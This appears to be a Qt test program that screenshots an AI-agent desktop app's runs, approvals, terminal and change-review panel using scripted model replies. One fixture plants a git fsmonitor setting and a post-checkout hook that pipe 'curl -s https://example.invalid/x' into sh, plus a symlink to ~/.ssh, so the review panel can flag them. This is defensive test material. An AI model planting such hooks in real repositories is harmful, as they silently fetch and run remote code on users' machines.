// Takes the acceptance screenshots of the window under a real X server (Xvfb): a successful
// run, a run that re-planned, an approval waiting, the dark palette, a terminal open under the
// timeline, and at 1400×900 and 1024×640, light and dark, the empty window, a re-planned run, a
// card waiting for approval, a command waiting for input and a terminal open (so the screen
// must be 1400×900 at least). Each scene is a real run (local LLM test server, host sandbox in a
// scratch workspace); the picture is what the X server shows where the window is. Two more show a
// task file opened for review and the review of what a sandbox changed in a copied workspace (real
// folders and diffs, no run). Usage: terrarium_screenshots OUTPUT_DIR  (exit 0 when every
// picture was taken and shows a real window, 1 otherwise).
#include "app/HistoryController.h"
#include "app/WindowController.h"
#include "core/store/RunHistoryModel.h"
#include "core/store/RunStore.h"
#include "core/store/RunbookExporter.h"
#include "core/workspace/WorkspaceChangeSet.h"
#include "core/workspace/WorkspaceFolder.h"
#include "core/workspace/WorkspaceManifest.h"
#include "tests/core/workspace/WorkspaceTestTree.h"
#include "tests/support/DarkPalette.h"
#include "tests/support/LlmTestServer.h"
#include "tests/support/ScriptedTurns.h"
#include "tests/support/SseScript.h"
#include "ui/ApprovalPanel.h"
#include "ui/ChangeReviewPanel.h"
#include "ui/MainWindow.h"
#include "ui/PastRunView.h"
#include "ui/RunHistoryPanel.h"
#include "ui/RunTimeline.h"
#include "ui/StatusBadge.h"
#include "ui/StepCard.h"
#include "ui/TaskFilePanel.h"
#include "ui/TerminalArea.h"
#include "ui/TerminalPane.h"
#include "ui/TerminalView.h"

#include <QApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLineEdit>
#include <QListView>
#include <QPalette>
#include <QPlainTextEdit>
#include <QProcess>
#include <QProcessEnvironment>
#include <QPushButton>
#include <QScreen>
#include <QSet>
#include <QSettings>
#include <QStyle>
#include <QStyleFactory>
#include <QTemporaryDir>

#include <cstdio>

using namespace Terrarium;
using Core::LlmProvider;
using Core::RunState;
using Tests::ScriptedResponse;
using Tests::SseScript;

namespace {

// Every scripted turn here speaks Chat Completions.
ScriptedResponse planReply(const QStringList &steps, int chunkDelayMs = 0)
{
    return Tests::ScriptedTurns::plan(LlmProvider::ChatCompletions, steps, chunkDelayMs);
}

ScriptedResponse commandReply(const QString &command)
{
    return Tests::ScriptedTurns::command(LlmProvider::ChatCompletions, command);
}

void waitFor(const std::function<bool()> &condition, int timeoutMs = 30000)
{
    QElapsedTimer clock;
    clock.start();
    while (!condition() && clock.elapsed() < timeoutMs)
        QCoreApplication::processEvents(QEventLoop::AllEvents, 20);
    // Let consoles render their last batch and the window repaint.
    QElapsedTimer settle;
    settle.start();
    while (settle.elapsed() < 400)
        QCoreApplication::processEvents(QEventLoop::AllEvents, 20);
}

// A real screenshot has many colours; a blank or black one has a handful.
bool looksReal(const QImage &image)
{
    QSet<QRgb> colours;
    for (int y = 0; y < image.height(); y += 7) {
        for (int x = 0; x < image.width(); x += 7)
            colours.insert(image.pixel(x, y));
    }
    return colours.size() > 40;
}

} // namespace

int main(int argc, char *argv[])
{
    QApplication app(argc, argv);
    if (argc < 2) {
        std::fprintf(stderr, "usage: %s OUTPUT_DIR\n", argv[0]);
        return 2;
    }
    const QString output = QString::fromLocal8Bit(argv[1]);
    QDir().mkpath(output);
    QApplication::setStyle(QStyleFactory::create(QStringLiteral("Fusion")));

    QTemporaryDir scratch;
    QDir(scratch.path()).mkpath(QStringLiteral("workspace"));
    // The runs of the scenes are kept in a store of their own (the history scenes show them).
    qputenv("XDG_DATA_HOME", scratch.filePath(QStringLiteral("data")).toLocal8Bit());
    Tests::LlmTestServer server;
    if (!server.listen())
        return 1;
    QSettings settings(scratch.filePath(QStringLiteral("terrarium.conf")), QSettings::IniFormat);
    settings.setValue(QStringLiteral("llm/provider"), QStringLiteral("chat"));
    settings.setValue(QStringLiteral("llm/base_url"), server.baseUrl().toString());
    settings.setValue(QStringLiteral("llm/model"), QStringLiteral("qwen2.5-coder"));
    settings.setValue(QStringLiteral("sandbox/kind"), QStringLiteral("host"));
    settings.setValue(QStringLiteral("sandbox/workspace"),
                      scratch.filePath(QStringLiteral("workspace")));
    settings.sync();

    bool allGood = true;
    auto shoot = [&](const QString &name) {
        // Where the window is (the largest one shown), as the X server draws it.
        QRect area;
        for (const QWidget *widget : QApplication::topLevelWidgets()) {
            const QRect frame = widget->frameGeometry();
            if (widget->isVisible()
                && frame.width() * frame.height() > area.width() * area.height())
                area = frame;
        }
        const QImage image = QGuiApplication::primaryScreen()
                                 ->grabWindow(0, area.x(), area.y(), area.width(), area.height())
                                 .toImage();
        const QString path = QDir(output).filePath(name + QStringLiteral(".png"));
        const bool saved = image.save(path);
        const bool real = looksReal(image);
        std::printf("screenshot: %s %s\n", qPrintable(path), saved && real ? "ok" : "BLANK");
        allGood = allGood && saved && real;
    };

    auto scene = [&](const QString &name, const QString &goal,
                     const QList<ScriptedResponse> &replies,
                     const std::function<bool(Widgets::MainWindow &)> &ready, bool dark,
                     const std::function<void(Widgets::MainWindow &)> &after = {},
                     QSize size = QSize(1280, 800)) {
        app.setPalette(dark ? Tests::darkPalette() : QApplication::style()->standardPalette());
        // Every scene starts from an empty workspace of its own.
        const QString workspace = scratch.filePath(name);
        QDir().mkpath(workspace);
        settings.setValue(QStringLiteral("sandbox/workspace"), workspace);
        settings.sync();
        Widgets::MainWindow window;
        App::WindowController controller(&window, &settings, {});
        RunState ended = RunState::Idle;
        QObject::connect(&controller, &App::WindowController::runEnded, &window,
                         [&ended](RunState state) { ended = state; });
        window.setGeometry(QRect(QPoint(0, 0), size));
        window.show();
        // Xvfb has no window manager to activate it; without that nothing has the focus.
        window.activateWindow();
        for (const ScriptedResponse &reply : replies)
            server.enqueue(reply);
        window.setGoal(goal);
        controller.run(goal);
        waitFor([&] { return ready(window); });
        if (after)
            after(window);
        shoot(name);
        if (window.isBusy()) {
            // Let the run end as its replies expect: deny what waits for approval, answer what
            // waits for input.
            if (window.approvalPanel()->isVisible())
                window.approvalPanel()->button(Core::ApprovalDecision::Deny)->click();
            for (Widgets::StepCard *card : window.timeline()->cards()) {
                if (card->isAwaitingInput()) {
                    auto *input = card->findChild<QLineEdit *>(QStringLiteral("inputEdit"));
                    input->setText(QStringLiteral("y"));
                    Q_EMIT input->returnPressed();
                }
            }
            waitFor([&] { return ended != RunState::Idle; });
        }
    };
    // The window before any run: what to do, with which model and sandbox.
    auto emptyScene = [&](const QString &name, bool dark, QSize size) {
        app.setPalette(dark ? Tests::darkPalette() : QApplication::style()->standardPalette());
        Widgets::MainWindow window;
        App::WindowController controller(&window, &settings, {});
        window.setGeometry(QRect(QPoint(0, 0), size));
        window.show();
        window.activateWindow();
        window.goalEdit()->setFocus();
        QElapsedTimer settle;
        settle.start();
        waitFor([&] { return settle.elapsed() > 200; });
        shoot(name);
    };

    // A new user's first Run: no model anywhere, the banner says so and offers Preferences.
    QSettings fresh(scratch.filePath(QStringLiteral("fresh.conf")), QSettings::IniFormat);
    fresh.setValue(QStringLiteral("sandbox/kind"), QStringLiteral("podman"));
    fresh.setValue(QStringLiteral("sandbox/workspace"),
                   scratch.filePath(QStringLiteral("workspace")));
    fresh.sync();
    QProcessEnvironment noKeys = QProcessEnvironment::systemEnvironment();
    for (const QString &name : noKeys.keys()) {
        if (name.endsWith(QLatin1String("_API_KEY"))
            || name.startsWith(QLatin1String("TERRARIUM_")))
            noKeys.remove(name);
    }
    auto firstStartScene = [&](const QString &name, bool dark, QSize size) {
        app.setPalette(dark ? Tests::darkPalette() : QApplication::style()->standardPalette());
        Widgets::MainWindow window;
        App::WindowController controller(&window, &fresh, {}, noKeys);
        window.setGeometry(QRect(QPoint(0, 0), size));
        window.show();
        window.activateWindow();
        window.setGoal(QStringLiteral("Fix the failing tests"));
        controller.run(window.goal());
        waitFor([&] { return !window.errorText().isEmpty(); });
        shoot(name);
    };

    const QString failing = QStringLiteral("printf 'Running 3 checks\\n\\033[32mPASS\\033[0m "
                                           "style\\n\\033[31mFAIL\\033[0m config\\n'; "
                                           "cat config.ini");
    scene(
        QStringLiteral("01-successful-run"),
        QStringLiteral("Set up the project and list what is in it"),
        {planReply({QStringLiteral("Create the project folders"), QStringLiteral("Write a README"),
                    QStringLiteral("List the project tree")}),
         commandReply(QStringLiteral("mkdir -p demo/src demo/tests && echo created")),
         commandReply(QStringLiteral("printf '# Demo\\n\\nA small project.\\n' > demo/README.md")),
         commandReply(
             QStringLiteral("find demo | sort && printf '\\033[1;32m3 entries\\033[0m\\n'"))},
        [](Widgets::MainWindow &window) {
            return window.statusBadge()->state() == RunState::Success;
        },
        false);
    scene(
        QStringLiteral("02-replanned-run"), QStringLiteral("Check the configuration"),
        {planReply({QStringLiteral("Run the configuration checks")}), commandReply(failing),
         planReply({QStringLiteral("Create a default config.ini"),
                    QStringLiteral("Run the configuration checks again")}),
         commandReply(QStringLiteral("printf '[core]\\nmode = demo\\n' > config.ini")),
         commandReply(QStringLiteral("printf '\\033[32mPASS\\033[0m config\\n'; cat config.ini"))},
        [](Widgets::MainWindow &window) {
            return window.statusBadge()->state() == RunState::Success;
        },
        false);
    scene(
        QStringLiteral("03-approval-waiting"), QStringLiteral("Clean out the build output"),
        {planReply(
             {QStringLiteral("Show what is in build/"), QStringLiteral("Delete the build folder")}),
         commandReply(QStringLiteral("mkdir -p build/obj && ls -la build")),
         commandReply(QStringLiteral("rm -rf build")),
         planReply({QStringLiteral("Leave the build folder alone")}),
         commandReply(QStringLiteral("true"))},
        [](Widgets::MainWindow &window) { return window.approvalPanel()->isVisible(); }, false);
    scene(
        QStringLiteral("04-dark-palette"), QStringLiteral("Check the configuration"),
        {planReply({QStringLiteral("Run the configuration checks")}), commandReply(failing),
         planReply({QStringLiteral("Create a default config.ini"),
                    QStringLiteral("Run the configuration checks again")}),
         commandReply(QStringLiteral("printf '[core]\\nmode = demo\\n' > config.ini")),
         commandReply(QStringLiteral("printf '\\033[32mPASS\\033[0m config\\n'; cat config.ini"))},
        [](Widgets::MainWindow &window) {
            return window.statusBadge()->state() == RunState::Success;
        },
        true);
    // A run, then a terminal into its sandbox under the timeline.
    const QList<ScriptedResponse> pythonProject = {
        planReply({QStringLiteral("Create the package"), QStringLiteral("Add a test")}),
        commandReply(QStringLiteral(
            "mkdir -p calc && printf 'def add(a, b):\\n    return a + b\\n' > calc/__init__.py")),
        commandReply(QStringLiteral("printf 'from calc import add\\n\\ndef test_add():\\n    "
                                    "assert add(2, 3) == 5\\n' > test_calc.py && ls"))};
    const auto succeeded = [](Widgets::MainWindow &window) {
        return window.statusBadge()->state() == RunState::Success;
    };
    const auto openTerminal = [](Widgets::MainWindow &window) {
        Q_EMIT window.terminalRequested();
        Widgets::TerminalPane *pane = window.terminalArea()->currentPane();
        if (!pane)
            return;
        // Typed once the shell shows its prompt (earlier the terminal echoes it twice), and
        // shot once the command's own output is there, not just its echo.
        waitFor([pane] { return !pane->view()->screenText().trimmed().isEmpty(); }, 10000);
        pane->view()->sendText(QStringLiteral("PS1='sandbox$ '; ls -la --color=always; grep -n "
                                              "--color=always add calc/__init__.py\n"));
        waitFor([pane] { return pane->view()->screenText().contains(QLatin1String("1:def")); },
                10000);
    };
    scene(QStringLiteral("05-terminal-pane"), QStringLiteral("Set up a small Python project"),
          pythonProject, succeeded, false, openTerminal);
    // The same at the two acceptance sizes, light and dark: the timeline keeps its room.
    for (const QSize &size : {QSize(1400, 900), QSize(1024, 640)}) {
        for (const bool dark : {false, true}) {
            const QString name = QStringLiteral("terminal-open-%1x%2-%3")
                                     .arg(size.width())
                                     .arg(size.height())
                                     .arg(dark ? QStringLiteral("dark") : QStringLiteral("light"));
            scene(name, QStringLiteral("Set up a small Python project"), pythonProject, succeeded,
                  dark, [&](Widgets::MainWindow &window) {
                      window.setGeometry(QRect(QPoint(0, 0), size));
                      waitFor([&] { return window.size() == size; }, 5000);
                      openTerminal(window);
                  });
        }
    }
    // The acceptance set at both sizes, light and dark: the empty window, a re-planned run, a
    // card waiting for approval, and a command waiting for input with the keyboard in its field.
    const QList<ScriptedResponse> replanned = {
        planReply({QStringLiteral("Run the configuration checks")}), commandReply(failing),
        planReply({QStringLiteral("Create a default config.ini"),
                   QStringLiteral("Run the configuration checks again")}),
        commandReply(QStringLiteral("printf '[core]\\nmode = demo\\n' > config.ini")),
        commandReply(QStringLiteral("printf '\\033[32mPASS\\033[0m config\\n'; cat config.ini"))};
    const QList<ScriptedResponse> approval = {
        planReply(
            {QStringLiteral("Show what is in build/"), QStringLiteral("Delete the build folder")}),
        commandReply(QStringLiteral("mkdir -p build/obj && ls -la build")),
        commandReply(QStringLiteral("rm -rf build")),
        planReply({QStringLiteral("Leave the build folder alone")}),
        commandReply(QStringLiteral("true"))};
    const QList<ScriptedResponse> input = {
        planReply({QStringLiteral("Check the disk"), QStringLiteral("Ask before upgrading")}),
        commandReply(QStringLiteral("df -h / | tail -n 1")),
        commandReply(QStringLiteral("printf 'The following packages will be upgraded:\\n  "
                                    "bash coreutils\\nDo you want to continue? [Y/n] '; read a; "
                                    "echo \"answer=$a\""))};
    for (const QSize &size : {QSize(1400, 900), QSize(1024, 640)}) {
        for (const bool dark : {false, true}) {
            const QString suffix =
                QStringLiteral("%1x%2-%3")
                    .arg(size.width())
                    .arg(size.height())
                    .arg(dark ? QStringLiteral("dark") : QStringLiteral("light"));
            emptyScene(QStringLiteral("empty-state-") + suffix, dark, size);
            firstStartScene(QStringLiteral("first-start-") + suffix, dark, size);
            scene(QStringLiteral("replanned-") + suffix, QStringLiteral("Check the configuration"),
                  replanned, succeeded, dark, {}, size);
            scene(
                QStringLiteral("approval-card-") + suffix,
                QStringLiteral("Clean out the build output"), approval,
                [](Widgets::MainWindow &window) { return window.approvalPanel()->isVisible(); },
                dark, {}, size);
            scene(
                QStringLiteral("input-focus-") + suffix,
                QStringLiteral("Upgrade the packages if there is room"), input,
                [](Widgets::MainWindow &window) {
                    const QList<Widgets::StepCard *> cards = window.timeline()->cards();
                    return !cards.isEmpty() && cards.last()->isAwaitingInput()
                        && QApplication::focusWidget()
                        && cards.last()->isAncestorOf(QApplication::focusWidget());
                },
                dark, {}, size);
        }
    }
    {
        // A task file opened for review: what it asks for is shown, the host and the network
        // highlighted with a box to tick; nothing runs until Run.
        app.setPalette(QApplication::style()->standardPalette());
        const QString folder = scratch.filePath(QStringLiteral("06-task-file"));
        QDir().mkpath(folder);
        QFile task(folder + QStringLiteral("/release.yaml"));
        task.open(QIODevice::WriteOnly);
        task.write("goal: build the release and upload the artifacts\n"
                   "sandbox: host\n"
                   "network: outbound\n"
                   "image: localhost/terrarium/debian:bookworm-2\n"
                   "limits: {cpus: 2, memory_mib: 4096, max_steps: 12, step_timeout: 900}\n"
                   "env: {CI: 1, RELEASE_CHANNEL: beta}\n");
        task.close();
        Widgets::MainWindow window;
        App::WindowController controller(&window, &settings, {});
        window.setGeometry(0, 0, 1280, 800);
        window.show();
        controller.openTaskFile(task.fileName());
        waitFor([&] { return window.taskFilePanel()->isVisible(); });
        QElapsedTimer settle;
        settle.start();
        waitFor([&] { return settle.elapsed() > 200; });
        shoot(QStringLiteral("06-task-file-review"));
    }
    {
        // What a sandbox changed in its copy of the workspace, for review before anything
        // reaches the host folder: real folders, manifests and diffs; a conflict (edited on the
        // host too) unticked, blocked entries greyed out, a modified file's diff selected; then a
        // hook the sandbox planted selected (unticked, in red, with why).
        app.setPalette(QApplication::style()->standardPalette());
        const QString hostPath = scratch.filePath(QStringLiteral("07-host/calc"));
        const QString sandboxPath = scratch.filePath(QStringLiteral("07-sandbox"));
        QDir().mkpath(hostPath);
        QDir().mkpath(sandboxPath);
        const Tests::WorkspaceTestTree host(hostPath);
        const Tests::WorkspaceTestTree sandbox(sandboxPath);
        const QByteArray core = "\"\"\"Arithmetic for the calculator.\"\"\"\n\n\n"
                                "def add(a, b):\n    return a + b\n\n\n"
                                "def sub(a, b):\n    return a - b\n\n\n"
                                "def div(a, b):\n    return a / b\n";
        host.file(QStringLiteral("calc/__init__.py"), "from .core import add, sub, div\n");
        host.file(QStringLiteral("calc/core.py"), core);
        host.file(QStringLiteral("README.md"), "# calc\n\nA small calculator.\n");
        host.file(QStringLiteral("setup.cfg"), "[metadata]\nname = calc\n");
        host.file(QStringLiteral("scripts/release.sh"), "#!/bin/sh\nset -e\n", 0644);
        host.file(QStringLiteral(".git/config"), "[core]\n\tbare = false\n");
        QProcess::execute(QStringLiteral("cp"),
                          {QStringLiteral("-a"), hostPath + QStringLiteral("/."), sandboxPath});
        const auto base = Core::WorkspaceManifest::scan(hostPath);
        sandbox.file(QStringLiteral("calc/core.py"),
                     "\"\"\"Arithmetic for the calculator.\"\"\"\n\n\n"
                     "def add(a, b):\n    return a + b\n\n\n"
                     "def sub(a, b):\n    return a - b\n\n\n"
                     "def mul(a, b):\n    return a * b\n\n\n"
                     "def div(a, b):\n    if b == 0:\n"
                     "        raise ZeroDivisionError(\"division by zero\")\n"
                     "    return a / b\n");
        sandbox.file(QStringLiteral("calc/__init__.py"), "from .core import add, sub, mul, div\n");
        sandbox.file(QStringLiteral("calc/cli.py"),
                     "import sys\n\nfrom .core import add\n\n\ndef main():\n"
                     "    print(add(*map(float, sys.argv[1:3])))\n");
        sandbox.file(QStringLiteral("tests/test_core.py"),
                     "from calc.core import div\n\n\ndef test_div():\n"
                     "    assert div(6, 3) == 2\n");
        sandbox.file(QStringLiteral("docs/logo.png"),
                     QByteArray("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16));
        sandbox.file(QStringLiteral("README.md"), "# calc\n\nA small calculator, with tests.\n");
        sandbox.file(QStringLiteral("scripts/release.sh"), "#!/bin/sh\nset -e\n", 0755);
        QFile::remove(sandbox.path(QStringLiteral("setup.cfg")));
        sandbox.link(QStringLiteral("secrets"), QStringLiteral("../../home/user/.ssh"));
        sandbox.fifo(QStringLiteral("build.pipe"));
        // What would run on the host by itself: unticked, in red.
        sandbox.file(
            QStringLiteral(".git/config"),
            "[core]\n\tbare = false\n\tfsmonitor = \"curl -s https://example.invalid/x | sh\"\n");
        sandbox.file(QStringLiteral(".git/hooks/post-checkout"),
                     "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", 0755);
        host.file(QStringLiteral("README.md"), "# calc\n\nMy calculator. Do not touch.\n");
        const auto sandboxNow = Core::WorkspaceManifest::scan(sandboxPath);
        const auto hostNow = Core::WorkspaceManifest::scan(hostPath);
        Core::Result<Core::WorkspaceChangeSet> changes = base && sandboxNow && hostNow
            ? Core::WorkspaceChangeSet::compute(*base, *sandboxNow, *hostNow)
            : Core::Result<Core::WorkspaceChangeSet>(std::unexpected(Core::Error{}));
        if (changes) {
            (void)changes->describe(
                hostPath, [sandboxPath](const Core::WorkspaceChange &change, qint64 maxBytes) {
                    Core::WorkspaceFolder folder(sandboxPath);
                    if (Core::Result<void> opened = folder.open(); !opened)
                        return Core::Result<QByteArray>(std::unexpected(opened.error()));
                    return folder.readFile(change.path, maxBytes);
                });
        }
        Widgets::ChangeReviewPanel panel;
        panel.setTargetFolder(hostPath);
        panel.setChangeSet(changes ? *changes : Core::WorkspaceChangeSet());
        for (int row = 0; changes && row < changes->changes().size(); ++row) {
            if (changes->changes().at(row).path == QLatin1String("calc/core.py"))
                panel.changeList()->setCurrentIndex(panel.changeList()->model()->index(row, 0));
        }
        panel.setGeometry(QGuiApplication::primaryScreen()->geometry());
        panel.show();
        QElapsedTimer settle;
        settle.start();
        waitFor([&] { return settle.elapsed() > 200; });
        shoot(QStringLiteral("07-change-review"));
        for (int row = 0; changes && row < changes->changes().size(); ++row) {
            if (changes->changes().at(row).path == QLatin1String(".git/hooks/post-checkout"))
                panel.changeList()->setCurrentIndex(panel.changeList()->model()->index(row, 0));
        }
        settle.restart();
        waitFor([&] { return settle.elapsed() > 200; });
        shoot(QStringLiteral("07-change-review-autorun"));
    }
    // The history sidebar with the runs the scenes above made, and the re-planned run opened
    // from it, read-only, with its summary.
    for (const QSize &size : {QSize(1400, 900), QSize(1024, 640)}) {
        for (const bool dark : {false, true}) {
            const QString suffix =
                QStringLiteral("%1x%2-%3")
                    .arg(size.width())
                    .arg(size.height())
                    .arg(dark ? QStringLiteral("dark") : QStringLiteral("light"));
            app.setPalette(dark ? Tests::darkPalette() : QApplication::style()->standardPalette());
            Widgets::MainWindow window;
            App::WindowController controller(&window, &settings, {});
            window.setGeometry(QRect(QPoint(0, 0), size));
            window.setHistoryShown(true);
            window.show();
            window.activateWindow();
            QElapsedTimer settle;
            settle.start();
            waitFor([&] { return settle.elapsed() > 200; });
            shoot(QStringLiteral("history-") + suffix);
            Core::RunHistoryModel *runs = controller.history()->model();
            for (int row = 0; row < runs->rowCount(); ++row) {
                if (runs->run(row).goal == QLatin1String("Check the configuration")) {
                    controller.history()->openRun(runs->run(row).runId);
                    window.historyPanel()->setCurrentRun(runs->run(row).runId);
                    break;
                }
            }
            settle.restart();
            waitFor([&] { return settle.elapsed() > 300; });
            shoot(QStringLiteral("past-run-") + suffix);
        }
    }
    {
        // The re-planned run exported as a runbook, opened with File > Replay... (what it will
        // run, nothing yet), then replayed without a model.
        app.setPalette(QApplication::style()->standardPalette());
        QString runbookPath;
        {
            Core::RunStore store;
            if (store.open(Core::RunStore::defaultPath())) {
                for (const Core::StoredRun &run : store.runs()) {
                    if (run.goal == QLatin1String("Check the configuration")
                        && run.status == QLatin1String("success")) {
                        runbookPath = scratch.filePath(QStringLiteral("check.yaml"));
                        if (!Core::RunbookExporter::exportRun(store, run.runId, runbookPath))
                            runbookPath.clear();
                        break;
                    }
                }
            }
        }
        if (runbookPath.isEmpty()) {
            std::printf("screenshot: replay BLANK (no runbook)\n");
            allGood = false;
        } else {
            const QString workspace = scratch.filePath(QStringLiteral("replay"));
            QDir().mkpath(workspace);
            settings.setValue(QStringLiteral("sandbox/workspace"), workspace);
            settings.sync();
            Widgets::MainWindow window;
            App::WindowController controller(&window, &settings, {});
            RunState ended = RunState::Idle;
            QObject::connect(&controller, &App::WindowController::runEnded, &window,
                             [&ended](RunState state) { ended = state; });
            window.setGeometry(0, 0, 1400, 900);
            window.show();
            window.activateWindow();
            controller.openRunbook(runbookPath);
            waitFor([&] { return window.taskFilePanel()->isVisible(); });
            QElapsedTimer settle;
            settle.start();
            waitFor([&] { return settle.elapsed() > 200; });
            shoot(QStringLiteral("replay-review"));
            const int requests = server.requestCount();
            controller.run(window.goal());
            waitFor([&] { return ended != RunState::Idle; });
            settle.restart();
            waitFor([&] { return settle.elapsed() > 300; });
            shoot(QStringLiteral("replayed"));
            if (ended != RunState::Success || server.requestCount() != requests) {
                std::printf("screenshot: replayed BLANK (the replay did not succeed without "
                            "a model)\n");
                allGood = false;
            }
        }
    }
    return allGood ? 0 : 1;
}
